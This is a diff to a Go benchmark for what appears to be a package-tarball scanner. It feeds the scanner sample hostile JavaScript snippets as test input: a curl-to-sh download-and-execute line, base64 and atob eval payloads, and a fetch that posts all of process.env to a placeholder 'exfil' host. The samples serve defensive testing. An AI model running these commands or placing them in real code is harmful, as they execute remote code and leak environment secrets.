@@ -37,8 +37,12 @@ func BenchmarkScanTarball(b *testing.B) {
 	for i := range 1000 {
 		fmt.Fprintf(&list, "%s  f%d.js\n", sum(fmt.Sprint(i)), i)
 	}
+	templates := []string{"require('child_process').exec('curl http://c%d.example | sh')",
+		"eval(Buffer.from('ZXZpbC%dNvZGU=', 'base64').toString())",
+		"new Function(atob(process.env.PAYLOAD_%d))()",
+		"fetch('https://exfil%d.example/collect', {method: 'POST', body: JSON.stringify(process.env)})"}
 	for i := range 20 {
-		fmt.Fprintf(&list, "snippet: require('child_process').exec('curl http://c%d.example | sh')\n", i)
+		fmt.Fprintf(&list, "snippet: "+templates[i%len(templates)]+"\n", i)
 	}
 	r := newReader()
 	if err := r.ReadHashList("bench.sha256", []byte(list.String())); err != nil {
